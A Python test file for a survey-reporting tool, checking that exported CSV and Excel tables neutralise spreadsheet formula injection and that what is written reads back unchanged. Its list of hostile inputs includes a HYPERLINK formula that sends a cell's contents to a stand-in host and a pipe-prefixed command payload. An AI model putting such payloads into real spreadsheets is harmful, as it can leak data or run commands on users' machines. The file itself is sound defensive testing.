"""No text of ours becomes a formula in a spreadsheet, and what is read back is what was written."""

import csv
import io
import time

import openpyxl
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from trustgap.report.disclosure import Mask, read_all, read_back
from trustgap.report.wording import Words
from trustgap.survey.spreadsheets import marked, unmarked

HOSTILE = {
    "a link": '=HYPERLINK("http://a.example/?"&A1,"click")',
    "at": "@SUM(1)",
    "plus": "+1",
    "minus": "-2",
    "tab": "\t=1+1",
    "carriage return": "\r=1+1",
    "line feed": "\n=1+1",
    "nul": "\0=1",
    "wide equals": "＝1",
    "wide plus": "＋1",
    "wide minus": "－1",
    "wide at": "＠SUM(1)",
    "pipe": "|cmd",
    "spaces": "   =1",
    "no-break space": "\u00a0=1",
    "no width": "\u200b=1",
    "byte order mark": "\ufeff=1",
    "bidi": "\u202e=1",
    "small equals": "﹦1",
    "apostrophe": "'=1",
    "other separator": "one;=1+1",
    "other separator, tab": "one\t@SUM(1)",
    "second line": "one\n=1+1",
}
HARMLESS = ["", "Trust", "a-b", "1", "'tis", "a = b", "e@mail", "one; two", "−2", "[c]", "a\n\nb"]
SIGNS = set("=+-@|＝＋－＠﹦﹢﹣﹫｜\t\r\n\0")


def cells_of(text, *, separator):
    """Split CSV as a spreadsheet does, whose separator may be another one."""
    return [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator) for cell in row]


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_a_text_that_begins_like_a_formula_is_marked(text):
    """A49, A50."""
    (written,) = marked(pd.DataFrame({"label": [text]}))["label"]

    assert written[0] not in SIGNS
    assert written != text
    assert written.replace("'", "") == text.replace("'", "")
    assert unmarked(pd.DataFrame({"label": [written]}))["label"].tolist() == [text]


@pytest.mark.parametrize("text", HARMLESS)
def test_any_other_text_is_left_alone(text):
    table = pd.DataFrame({"label": [text]})

    assert marked(table) is table
    assert unmarked(table) is table


def test_numbers_stay_numbers_and_the_table_given_is_not_changed():
    """A50; a figure of -2 is -2, the words "-2" are not."""
    table = pd.DataFrame({"words": ["-2", None], "figure": [-2, -3], "half": [-0.5, float("nan")]})
    before = table.copy()
    written = marked(table).to_csv(index=False)

    assert written.splitlines()[1:] == ["'-2,-2,-0.5", ",-3,"]
    pd.testing.assert_frame_equal(table, before)


@given(st.lists(st.text(alphabet=st.sampled_from("=+-@|＝;\t\r\n\0' ab\u200b\ufeff"), max_size=12)))
def test_whatever_is_written_comes_back_and_nothing_written_begins_like_a_formula(texts):
    """B25; marks of a table that was marked before are kept apart from ours."""
    table = pd.DataFrame({"label": pd.Series(texts, dtype=object)})
    once, twice = marked(table), marked(marked(table))

    assert not any(text[:1] in SIGNS and text for text in once["label"])
    assert unmarked(once)["label"].tolist() == texts
    assert unmarked(unmarked(twice))["label"].tolist() == texts


@pytest.mark.parametrize("separator", [",", ";", "\t"])
@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_no_cell_is_a_formula_where_a_spreadsheet_splits_at_another_sign(text, separator):
    """B26; where the list separator is a semicolon, a quotation mark within a line protects nothing."""
    rows = pd.DataFrame({"code": ["X1"], "label": [f"a, {text}"], "more": [text], "n": [1]})
    cells = cells_of(marked(rows).to_csv(index=False, lineterminator="\n"), separator=separator)

    assert not [cell for cell in cells if cell.strip(" '\"")[:1] in set("=+-@|＝") and cell[0] not in "'\""]


def test_a_long_text_made_to_be_slow_is_marked_in_no_time():
    """B61. A comment may be as long as somebody likes."""
    begun = time.process_time()
    for piece in ("\n", " ", "'", ";", "\r\u2028", "\n'", "; "):
        marked(pd.DataFrame({"text": [piece * 50_000]}))
    assert time.process_time() - begun < 2


def test_a_workbook_made_of_a_table_holds_no_formula(tmp_path):
    """A49; openpyxl makes a formula of any text that begins with an equals sign."""
    table = pd.DataFrame({"label": [text for name, text in HOSTILE.items() if name != "nul"]})
    plain, safe = tmp_path / "plain.xlsx", tmp_path / "safe.xlsx"
    table.to_excel(plain, index=False)
    marked(table).to_excel(safe, index=False)

    def kinds(path):
        return {cell.data_type for row in openpyxl.load_workbook(path).active.iter_rows() for cell in row}

    assert "f" in kinds(plain)
    assert kinds(safe) == {"s"}


def rows(target):
    frame = pd.DataFrame(
        {"area": "X1", "wave": "1", "analysis": "barriers", "estimand": "share_difference", "item": "q",
         "target": target, "n_a": [40.0], "n_b": [50.0], "estimate": [-0.256], "conf_low": [-0.5],
         "conf_high": [0.1]}
    )  # fmt: skip
    return frame.assign(rests_on=[()])


@pytest.mark.parametrize("text", [HOSTILE["a link"], "-2", "'=1", "one;=2"])
def test_the_batch_reads_back_what_it_wrote(text, tmp_path):
    """A50, B27; the page that repeats a label shows it as it was given, without our mark."""
    words = Words(survey="s")
    shown = Mask().protect(rows(text), words)
    path = tmp_path / "X1" / "tables" / "08_diagnostic.csv"
    path.parent.mkdir(parents=True)
    marked(shown.table).to_csv(path, index=False, lineterminator="\n")

    assert "-0.26" in path.read_text(encoding="utf-8"), "a number below 0 is no text"
    assert read_back(path, words).frame["target"].tolist() == [text]
    assert read_all([path], words, analyses=["barriers"]).frame["target"].tolist() == [text]
